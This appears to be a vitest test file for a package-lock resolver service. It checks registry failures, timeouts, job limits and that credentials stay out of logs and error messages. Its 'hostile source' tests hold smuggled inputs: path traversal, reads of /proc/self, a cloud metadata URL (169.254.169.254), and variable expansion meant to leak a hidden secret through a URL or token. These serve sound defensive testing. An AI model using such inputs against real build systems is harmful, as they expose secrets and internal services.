import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createResolverClient } from '../../src/resolve/client.ts';
import { createLocalResolver } from '../../src/resolve/local-resolver.ts';
import type { LockInputs } from '../../src/revision/lock-inputs.ts';
import { eventually } from '../eventually.ts';
import {
  type FakeRegistry,
  Registries,
  startNpmRegistry,
  startRefusing,
  startSilent,
} from '../pod/install/fake-registry.ts';
import { type DistributionFile, makeSdist, makeWheel, startIndex } from '../pod/install/python-index.ts';
import {
  failed,
  filesOf,
  nodejs,
  python,
  resolved,
  type RunningResolver,
  startResolver,
  untilStopped,
} from './running-resolver.ts';

let resolver: RunningResolver;
let folder: string;
const registries = new Registries();

beforeAll(async () => {
  // What a controller's container might have; no job sees it.
  resolver = await startResolver({ HIDDEN: 'hunter2-of-the-controller', NPM_CONFIG_REGISTRY: 'http://127.0.0.1:1/' });
  folder = await mkdtemp(path.join(tmpdir(), 'buildless-failures-'));
});
afterAll(async () => {
  await resolver.close();
  await registries.closeAll();
  await rm(folder, { recursive: true, force: true });
});

const one = (registry: string): LockInputs =>
  nodejs({ 'package.json': '{"dependencies":{"left":"1.0.0"}}' }, [registry]);
const npmrc = ({ address }: FakeRegistry): string =>
  `registry=${address}\n${address.replace('http:', '')}:_authToken=hunter2-token\n`;
const pipConf = ({ address }: FakeRegistry): string =>
  `[global]\nindex-url = ${address.replace('http://', 'http://me:hunter2-password@')}simple\n`;
const lock = (inputs: LockInputs, registrySettings?: string) =>
  resolver.lock({ name: 'x', inputs, ...(registrySettings !== undefined && { registrySettings }) }, untilStopped());

describe('a job that cannot be done', () => {
  it('is worth another try if no registry can be reached', async () => {
    const failure = failed(await lock(one('http://127.0.0.1:1/'), 'registry=http://127.0.0.1:1/\n'));
    expect(failure).toMatchObject({ temporary: true });
    expect(failure.problem).toContain('no registry can be reached: 127.0.0.1:1 (ECONNREFUSED)');
    const ofPython = failed(await lock(python('thing==1.0\n'), '[global]\nindex-url = http://127.0.0.1:1/simple\n'));
    expect(ofPython).toMatchObject({ temporary: true });
    expect(JSON.stringify(ofPython)).toContain('127.0.0.1:1');
  });

  it('is worth another try if the registry has trouble, and not if it refuses', async () => {
    const busy = await registries.use(startRefusing(503));
    expect(failed(await lock(one(busy.address), npmrc(busy)))).toMatchObject({ temporary: true });
    expect(failed(await lock(python('thing==1.0\n'), pipConf(busy)))).toMatchObject({ temporary: true });
    const refusing = await registries.use(startRefusing(403));
    expect(failed(await lock(one(refusing.address), npmrc(refusing)))).toMatchObject({ temporary: false });
    expect(failed(await lock(python('thing==1.0\n'), pipConf(refusing)))).toMatchObject({ temporary: false });
  });

  it('is refused if the Function names a Secret whose settings are not there: another registry has other packages', async () => {
    for (const inputs of [one('http://x/'), python('requests==2.32.3\n')]) {
      const failure = failed(await lock({ ...inputs, registry: 'private' }));
      expect(failure).toMatchObject({ temporary: false });
      expect(failure.problem).toMatch(/cannot read (?:\.npmrc|pip\.conf) of the Secret private/);
      expect(failure.fix).toContain('buildless-source-reader');
    }
  });

  it('names what is missing', async () => {
    const registry = await registries.use(
      startNpmRegistry([{ name: 'left', version: '2.0.0', archive: Buffer.from('x') }]),
    );
    const { problem, fix, details, temporary } = failed(await lock(one(registry.address), npmrc(registry)));
    expect(problem).toMatch(/^npm \d+\.\S+ could not resolve package\.json$/);
    expect(fix).not.toBe('');
    expect(details.join('\n')).toContain('left@1.0.0');
    expect(temporary).toBe(false);
  });

  it('takes no source distribution, as that would run code', async () => {
    const trace = path.join(folder, 'ran');
    const sdist = makeSdist(folder, 'thing', '1.0', trace);
    const index = await registries.use(startIndex([sdist]));
    const failure = failed(await lock(python('thing==1.0\n', [`${index.address}simple`]), pipConf(index)));
    expect(failure).toMatchObject({ temporary: false });
    expect(failure.problem).toContain('uv could not resolve requirements.txt for Python 3.12');
    expect(await readdir(folder)).not.toContain('ran');
  });

  it('has no credential in its message, nor in the log', async () => {
    const refusing = await registries.use(startRefusing(401));
    const failures = [
      failed(await lock(one(refusing.address), npmrc(refusing))),
      failed(await lock(python('thing==1.0\n'), pipConf(refusing))),
      failed(
        await resolver.commit(
          {
            source: { type: 'git', url: 'https://127.0.0.1:1/x.git' },
            auth: filesOf({ username: 'me', password: 'hunter2-git' }),
          },
          untilStopped(),
        ),
      ),
    ];
    expect(JSON.stringify(failures)).not.toContain('hunter2');
    await eventually(() => {
      expect(resolver.log().match(/not resolved/g)?.length).toBeGreaterThan(3);
    });
    expect(resolver.log()).not.toContain('hunter2');
  });

  it('is refused at once if there are too many', async () => {
    const silent = await registries.use(startSilent());
    const stop = new AbortController();
    const crowded = await createLocalResolver({
      folder: path.join(folder, 'crowded'),
      environment: { PATH: process.env.PATH },
      parallel: 1,
      waiting: 1,
      seconds: 300,
      mostBytes: 1024 * 1024,
      mostCached: 1024 * 1024,
      failed: () => undefined,
    });
    const jobs = [1, 2, 3].map(() =>
      crowded.lock({ name: 'x', inputs: one(silent.address), registrySettings: npmrc(silent) }, stop.signal),
    );
    expect(failed((await jobs[2]) ?? {})).toMatchObject({ problem: 'the resolver has too many jobs', temporary: true });
    stop.abort();
    for (const job of jobs) expect(failed(await job)).toMatchObject({ temporary: true });
  });
});

describe('a job that hangs', () => {
  it('is ended with all that it started when it is given up, and leaves nothing behind', async () => {
    const silent = await registries.use(startSilent());
    const stop = new AbortController();
    const job = resolver.lock({ name: 'x', inputs: one(silent.address), registrySettings: npmrc(silent) }, stop.signal);
    await eventually(() => {
      expect(silent.requests.length).toBeGreaterThan(0);
    });
    stop.abort();
    expect(failed(await job)).toMatchObject({ temporary: true });
    await eventually(async () => {
      expect(await readdir(path.join(resolver.folder, 'jobs'))).toEqual([]);
    });
  });

  it('is ended after its time', async () => {
    const silent = await registries.use(startSilent());
    const hurried = await createLocalResolver({
      folder: path.join(folder, 'hurried'),
      environment: { PATH: process.env.PATH },
      parallel: 1,
      waiting: 1,
      seconds: 2,
      mostBytes: 64 * 1024 * 1024,
      mostCached: 1024 * 1024,
      failed: () => undefined,
    });
    const answer = await hurried.lock(
      { name: 'x', inputs: one(silent.address), registrySettings: npmrc(silent) },
      untilStopped(),
    );
    expect(failed(answer)).toMatchObject({ problem: 'it was not resolved within 2 s', temporary: true });
  });

  it('holds up nobody who asks public registries only, nor Git, however many hang', async () => {
    const silent = await registries.use(startSilent());
    const stop = new AbortController();
    const hanging = Array.from({ length: 5 }, () =>
      resolver.lock({ name: 'x', inputs: one(silent.address), registrySettings: npmrc(silent) }, stop.signal),
    );
    await eventually(() => {
      expect(silent.requests.length).toBeGreaterThanOrEqual(2);
    });
    // It needs nothing of a registry, but its turn.
    expect(resolved(await lock(nodejs({ 'package.json': '{}' }))).text).toContain('"lockfileVersion": 3');
    const commit = await resolver.commit({ source: { type: 'git', url: 'https://127.0.0.1:1/x.git' } }, untilStopped());
    expect(failed(commit).problem).toContain('cannot be reached');
    stop.abort();
    await Promise.all(hanging);
  });

  it('does not keep the others waiting for ever', async () => {
    const silent = await registries.use(startSilent());
    const wheels: DistributionFile[] = [await makeWheel(folder, 'thing', '1.0')];
    const index = await registries.use(startIndex(wheels));
    const stop = new AbortController();
    const hanging = resolver.lock(
      { name: 'x', inputs: one(silent.address), registrySettings: npmrc(silent) },
      stop.signal,
    );
    const { text } = resolved(
      await lock(python('thing==1.0\n', [`${index.address}simple`]), `[global]\nindex-url = ${index.address}simple\n`),
    );
    expect(text).toContain('thing-1.0');
    stop.abort();
    await hanging;
  });
});

describe('a hostile source', () => {
  const elsewhere = path.join(tmpdir(), 'settings-of-another-job');
  it.each([
    ['a requirements file elsewhere', python(`-r ${elsewhere}\n`)],
    ['a constraints file above', python('-c ../../npmrc\nthing==1.0\n')],
    ['a folder elsewhere', python('thing @ file:///proc/self\n')],
    ['a variable', python('thing @ https://example.com/${HIDDEN}/thing-1.0-py3-none-any.whl\n')],
    ['an index that nobody allowed', python('--index-url http://169.254.169.254/simple\nthing==1.0\n')],
    ['a trusted host', python('--trusted-host pypi.org\nthing==1.0\n')],
    [
      'a registry that nobody allowed',
      nodejs({ 'package.json': '{"dependencies":{"a":"1.0.0"}}', '.npmrc': 'registry=http://169.254.169.254/\n' }),
    ],
    [
      'a proxy',
      nodejs({ 'package.json': '{"dependencies":{"a":"1.0.0"}}', '.npmrc': 'https-proxy=http://127.0.0.1:9/\n' }),
    ],
    [
      'a variable of the tools',
      nodejs({ 'package.json': '{"dependencies":{"a":"1.0.0"}}', '.npmrc': '//127.0.0.1/:_authToken=${HOME}\n' }),
    ],
    ['a folder above', nodejs({ 'package.json': '{"dependencies":{"a":"file:../../x"}}' })],
  ])('is not followed to %s', async (_what, inputs) => {
    const failure = failed(await lock(inputs));
    expect(failure).toMatchObject({ temporary: false });
    expect(failure.problem).toMatch(/does not follow|would run its own/);
  });

  it('sees none of the variables of the resolver', async () => {
    const asked = await registries.use(
      startNpmRegistry([{ name: 'left', version: '1.0.0', archive: Buffer.from('x') }]),
    );
    const files = {
      'package.json': '{"dependencies":{"left":"1.0.0"}}',
      '.npmrc': `//${new URL(asked.address).host}/:_authToken=\${HIDDEN}\n`,
    };
    const { text } = resolved(await lock(nodejs(files, [asked.address]), `registry=${asked.address}\n`));
    expect(text).toContain('"node_modules/left"');
  });
});

describe('the socket', () => {
  const post = async (body: string): Promise<number> =>
    await new Promise((resolve, reject) => {
      const asked = request({ socketPath: resolver.socket, path: '/lock', method: 'POST' }, (response) => {
        response.resume();
        resolve(response.statusCode ?? 0);
      });
      asked.on('error', reject);
      asked.end(body);
    });

  it.each([
    ['no JSON', '{'],
    ['another form', '{"name":"x"}'],
    ['a name with a slash', '{"name":"../x"}'],
    [
      'a file that leads out',
      JSON.stringify({
        name: 'x',
        language: 'nodejs',
        version: '22',
        registries: [],
        refresh: 0,
        files: { '../x': '' },
      }),
    ],
  ])('takes no job that is %s', async (_what, body) => {
    expect(await post(body)).toBe(400);
  });

  it('that nobody listens on is a failure that passes', async () => {
    const alone = createResolverClient(path.join(folder, 'nobody.sock'));
    expect(failed(await alone.lock({ name: 'x', inputs: one('http://x/') }, untilStopped()))).toMatchObject({
      temporary: true,
    });
  });
});
